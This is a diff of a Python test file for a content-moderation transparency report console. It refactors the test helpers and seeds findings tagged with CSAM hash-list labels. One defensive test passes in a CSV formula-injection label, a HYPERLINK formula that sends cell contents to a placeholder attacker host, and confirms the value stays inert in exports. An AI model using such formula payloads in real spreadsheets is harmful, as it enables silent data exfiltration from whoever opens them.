@@ -8,7 +8,6 @@ from __future__ import annotations
 import csv
 import io
 import json
-from collections.abc import Sequence
 from datetime import UTC, datetime, timedelta
 from html.parser import HTMLParser
 from urllib.parse import urlsplit
@@ -18,15 +17,13 @@ import sqlalchemy as sa
 
 from agent.console.app import duration
 from agent.model.access import Role
-from agent.model.records import FindingRow, ItemRow, LocationRow, NewEvent
-from agent.model.signals import SignalType
-from agent.model.status import ItemState
 from agent.model.time import utcnow
 from agent.model.transparency import Period, TransparencyReport
 from agent.store import Store
-from agent.store.schema import content_status, findings, retractions
+from agent.store.schema import retractions
 from tests.support.api import api_server
 from tests.support.console import ConsoleUser, Page
+from tests.support.dated import dated_finding, no_event, removed_after
 
 T0 = datetime(2026, 3, 1, tzinfo=UTC)
 MARCH = Period(T0, datetime(2026, 4, 1, tzinfo=UTC))
@@ -87,55 +84,27 @@ def figures(page: Page) -> _Figures:
     return parser
 
 
-async def _finding(
-    store: Store, key: str, at: datetime, *, list_name: str = "tcap", labels: Sequence[str] = (), entry: str = ""
-) -> int:
-    """One finding of item `key` against `list_name`, recorded at `at`."""
-    row = FindingRow(key, list_name, entry or f"{list_name}:{key}", "abc", SignalType.MD5, 0.0, labels=tuple(labels))
-    (made,) = await store.items.record(
-        ItemRow(key=key, status=ItemState.VERIFIED, cid=f"bafy{key}"),
-        LocationRow(item_key=key, path=f"{key}.jpg"),
-        [row],
-    )
-    assert made.id is not None
-    async with store._engine.begin() as conn:
-        await conn.execute(sa.update(findings).where(findings.c.id == made.id).values(created_at=at))
-    return made.id
-
-
-async def _removed(store: Store, key: str, first_alert_at: datetime, after: timedelta) -> None:
-    """Item `key`'s content was seen gone `after` its first alert."""
-    await store.content.set_state(key, "unavailable", first_alert_at=first_alert_at, detail={}, follow_up=None)
-    async with store._engine.begin() as conn:
-        changed = sa.update(content_status).where(content_status.c.item_key == key)
-        await conn.execute(changed.values(changed_at=first_alert_at + after))
-
-
-def _no_event(_finding: FindingRow, _recipients: list[int]) -> NewEvent | None:
-    return None
-
-
 async def _march(store: Store) -> None:
     """A month of findings on two lists, reviews of three, two retractions (one of each
     reason), three removals and one item still up; plus a finding each side of March."""
-    a = await _finding(store, "a", T0, labels=["csam", "known"])
-    b = await _finding(store, "b", T0 + timedelta(days=1), labels=["csam"])
-    c = await _finding(store, "c", T0 + timedelta(days=2))
-    await _finding(store, "d", T0 + timedelta(days=3), list_name="ncmec", labels=["csam"])
-    e = await _finding(store, "e", T0 + timedelta(days=4), list_name="ncmec", entry="ncmec:gone")
+    a = await dated_finding(store, "a", T0, labels=["csam", "known"])
+    b = await dated_finding(store, "b", T0 + timedelta(days=1), labels=["csam"])
+    c = await dated_finding(store, "c", T0 + timedelta(days=2))
+    await dated_finding(store, "d", T0 + timedelta(days=3), list_name="ncmec", labels=["csam"])
+    e = await dated_finding(store, "e", T0 + timedelta(days=4), list_name="ncmec", entry="ncmec:gone")
     # The last microsecond of the To day is in the period; the next day's first is not.
-    await _finding(store, "last", MARCH.until - timedelta(microseconds=1), labels=["late"])
-    await _finding(store, "april", MARCH.until, labels=["late"])
-    await _finding(store, "february", T0 - timedelta(microseconds=1), labels=["csam"])
+    await dated_finding(store, "last", MARCH.until - timedelta(microseconds=1), labels=["late"])
+    await dated_finding(store, "april", MARCH.until, labels=["late"])
+    await dated_finding(store, "february", T0 - timedelta(microseconds=1), labels=["csam"])
     await store.reviews.review(a, "confirmed", note=None, reviewer="r1")
     await store.reviews.review(b, "false_positive", note=None, reviewer="r1")
     await store.reviews.review(c, "confirmed", note=None, reviewer="r1")
-    assert await store.reviews.retract_entries("ncmec", ["ncmec:gone"], "deleted upstream", _no_event) == [e]
+    assert await store.reviews.retract_entries("ncmec", ["ncmec:gone"], "deleted upstream", no_event) == [e]
     async with store._engine.begin() as conn:
         await conn.execute(sa.update(retractions).values(created_at=T0 + timedelta(days=10)))
-    await _removed(store, "a", T0, timedelta(hours=2))
-    await _removed(store, "b", T0 + timedelta(days=1), timedelta(minutes=5))
-    await _removed(store, "c", T0 + timedelta(days=2), timedelta(days=3))
+    await removed_after(store, "a", T0, timedelta(hours=2))
+    await removed_after(store, "b", T0 + timedelta(days=1), timedelta(minutes=5))
+    await removed_after(store, "c", T0 + timedelta(days=2), timedelta(days=3))
     await store.content.set_state("d", "available", first_alert_at=T0, detail={}, follow_up=None)
 
 
@@ -206,8 +175,8 @@ async def test_without_dates_the_page_reports_the_last_30_days_up_to_today(store
     """The form's defaults span 30 UTC days ending today: a finding made now is counted, one
     made 31 days ago is not."""
     now = utcnow()
-    await _finding(store, "now", now, labels=["fresh"])
-    await _finding(store, "old", now - timedelta(days=31), labels=["stale"])
+    await dated_finding(store, "now", now, labels=["fresh"])
+    await dated_finding(store, "old", now - timedelta(days=31), labels=["stale"])
     async with (
         api_server(store, console=True) as api,
         ConsoleUser.login(api.url, await api.token(Role.INVESTIGATOR)) as user,
@@ -228,8 +197,8 @@ FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
 async def test_a_hostile_label_is_text_on_the_page_and_inert_in_the_csv(store: Store) -> None:
     """A label with markup shows as escaped text (never a tag); a formula-like label and list
     name open in a spreadsheet as plain text (a leading quote) and stay exact in the JSON."""
-    await _finding(store, "h", T0, labels=[HOSTILE, FORMULA])
-    await _finding(store, "g", T0, list_name="@SUM(A1:A9)", labels=["plain"])
+    await dated_finding(store, "h", T0, labels=[HOSTILE, FORMULA])
+    await dated_finding(store, "g", T0, list_name="@SUM(A1:A9)", labels=["plain"])
     async with (
         api_server(store, console=True) as api,
         ConsoleUser.login(api.url, await api.token(Role.INVESTIGATOR)) as user,
